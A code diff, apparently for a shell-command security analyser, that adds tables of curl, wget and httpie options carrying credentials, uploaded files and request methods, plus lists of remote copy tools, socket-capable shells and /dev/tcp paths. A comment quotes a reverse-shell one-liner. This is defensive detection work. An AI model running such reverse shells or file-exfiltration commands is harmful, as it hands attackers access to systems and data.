@@ -30,21 +30,36 @@ export interface NetworkClient {
    * is piped or redirected in: httpie reads its body from a pipe), or only through `stdinOptions`.
    */
   readonly stdin?: "always" | "piped";
+  /** Options whose value authenticates the request: a header or credentials (`-H`, `-u`, `--oauth2-bearer`). */
+  readonly credentials?: readonly string[];
+  /** Options whose value is a local file sent as the body (`curl -T f`, `wget --post-file f`). */
+  readonly fileOptions?: readonly string[];
+  /** Options whose value names a local file after `@` or `<` (`curl -d @f`, `-F x=@f`, `--data-urlencode k@f`). */
+  readonly atFileOptions?: readonly string[];
+  /** Options whose value is the request method (`curl -X DELETE`, `wget --method=DELETE`). */
+  readonly methodOptions?: readonly string[];
 }
 
 const CURL: NetworkClient = {
   operands: "urls",
   payload: ["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json", "-F", "--form", "--form-string", "--url"],
   stdinOptions: ["-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "-F", "--form", "-T", "--upload-file"],
+  credentials: ["-H", "--header", "-u", "--user", "--oauth2-bearer", "-U", "--proxy-user", "--proxy-header", "-b", "--cookie", "--pass", "--aws-sigv4"],
+  fileOptions: ["-T", "--upload-file"],
+  atFileOptions: ["-d", "--data", "--data-binary", "--data-urlencode", "--data-ascii", "--json", "-F", "--form"],
+  methodOptions: ["-X", "--request"],
 };
 
 const WGET: NetworkClient = {
   operands: "urls",
   payload: ["--post-data", "--body-data"],
   stdinOptions: ["--post-file", "--body-file"],
+  credentials: ["--header", "--user", "--password", "--http-user", "--http-password", "--proxy-user", "--proxy-password"],
+  fileOptions: ["--post-file", "--body-file"],
+  methodOptions: ["--method"],
 };
 
-const HTTPIE: NetworkClient = { operands: "request-items", payload: ["--raw"], stdin: "piped" };
+const HTTPIE: NetworkClient = { operands: "request-items", payload: ["--raw"], stdin: "piped", credentials: ["-a", "--auth", "--bearer"] };
 
 const SOCKET: NetworkClient = { operands: "host", payload: [], stdin: "always" };
 
@@ -175,3 +190,12 @@ export const ENVIRONMENT_CODE: Readonly<Record<"python" | "node" | "perl" | "rub
     call: ["getenv"],
   },
 };
+
+/** Programs that copy local files to `[user@]host:path` (`scp f host:`, `rsync -a dir/ host:dir/`). */
+export const REMOTE_COPIERS: readonly string[] = ["scp", "rsync", "pscp", "sftp"];
+
+/** Shells whose input or output tied to a socket hands the peer a shell (`bash -i >& /dev/tcp/h/p 0>&1`). */
+export const SOCKET_SHELLS: readonly string[] = ["bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "busybox", "fish", "csh", "tcsh"];
+
+/** Bash's network pseudo-files: a redirection to `/dev/tcp/HOST/PORT` opens a socket to the peer. */
+export const SOCKET_FILES: readonly string[] = ["/dev/tcp/", "/dev/udp/"];
